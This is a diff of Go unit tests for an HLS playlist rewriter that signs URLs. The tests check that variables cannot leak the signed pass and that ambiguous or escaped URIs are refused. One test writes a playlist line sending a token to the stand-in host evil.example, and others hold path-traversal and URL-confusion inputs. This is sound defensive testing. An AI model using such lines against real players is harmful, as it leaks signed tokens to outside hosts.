@@ -186,6 +186,37 @@ func TestADefinitionOfAVariableIsStrictOrRefused(t *testing.T) {
 	stays(t, "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\n#EXT-X-DEFINE:NAME=\"Policy\",VALUE=\"x\",X=1\n", nil)
 }
 
+func TestAVariableWhoseValueIsAPartOfThePassIsRefused(t *testing.T) {
+	pass := newPass(t, newKey(t), now)
+	signed, err := pass.URL(prefix)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, params, _ := strings.Cut(signed, "?")
+	for param := range strings.SplitSeq(params, "&") {
+		name, value, _ := strings.Cut(param, "=")
+		for _, value := range []string{value, "x" + value + "y", params} {
+			if len(value) < 12 {
+				continue // the name of a hash
+			}
+			playlist := "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\nhttps://evil.example/{$token}\n"
+			err := Rewrite(io.Discard, strings.NewReader(playlist), list, pass, &Options{Variables: map[string]string{"token": value}})
+			if err == nil || !strings.Contains(err.Error(), "a part of the pass") || strings.Contains(err.Error(), value) {
+				t.Errorf("%s: got %v", name, err)
+			}
+		}
+	}
+}
+
+func TestAnEscapedVariableGetsNoPass(t *testing.T) {
+	refuses(t, "#EXTM3U\n#EXT-X-DEFINE:NAME=\"v\",VALUE=\"/../x\"\n%7B$v%7D.ts\n", nil, 3, "write %24 for the $")
+	refuses(t, "#EXTM3U\n#EXT-X-MAP:URI=\"%7B$v%7D\"\n", nil, 2, "write %24 for the $")
+	stays(t, "#EXTM3U\nhttps://ads.example/%7B$v%7D.ts\n", nil)
+	if _, err := rewritten(t, "#EXTM3U\n%7B%24v%7D.ts\n", nil); err != nil {
+		t.Error(err)
+	}
+}
+
 // hls.js finds tags in the middle of lines, and Shaka Player in lines whose
 // first character is any at all.
 func TestADefinitionInsideOfALineIsRefused(t *testing.T) {
@@ -223,13 +254,13 @@ func TestAURIFromOptionsPlaylistHasOneMeaningToEveryPlayer(t *testing.T) {
 	for uri, want := range map[string]string{
 		"//evil.example/v.m3u8": "two slashes", "///evil.example/v.m3u8": "two slashes", `\\evil.example`: "escape it", `/\evil.example`: "escape it",
 		"https:evil.example/v": "without a host", "https:///evil.example": "without a host", "HTTPS://app.example/v": "capitals", "https://": "without a host",
-		"https://u@app.example/v": "user name", "/a b": "escape it", "/a\tb": "escape it", "/a|b": "escape it", "/día": "escape it", "/a\u2028b": "escape it", "/<a>": "escape it",
+		"https://u@app.example/v": "user name", "/a b": "escape it", "/a\tb": "escape it", "/a|b": "escape it", "/día": "escape it", "/a\u2028b": "escape it", "/<a>": "escape it", "/%7B$v%7D/x": "write %24 for the $",
 	} {
 		o := &Options{Playlist: func(Reference) (string, error) { return uri, nil }}
 		refuses(t, "#EXTM3U\n#EXT-X-MEDIA:URI=\"a.m3u8\"\n", o, 2, want)
 		refuses(t, "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\na.m3u8\n", o, 3, want)
 	}
-	for _, uri := range []string{"/a", "a/b.m3u8?x=1&y=%20#z", "../a", "https://app.example:8443/a", "http://[::1]/a", "app-scheme://a", "?a", "a;b,c@d"} {
+	for _, uri := range []string{"/a", "/%7B%24v%7D", "a/b.m3u8?x=1&y=%20#z", "../a", "https://app.example:8443/a", "http://[::1]/a", "app-scheme://a", "?a", "a;b,c@d"} {
 		o := &Options{Playlist: func(Reference) (string, error) { return uri, nil }}
 		got, err := rewritten(t, "#EXTM3U\n#EXT-X-MEDIA:URI=\"a.m3u8\"\n", o)
 		if want := "#EXTM3U\n#EXT-X-MEDIA:URI=\"" + uri + "\"\n"; err != nil || got != want {
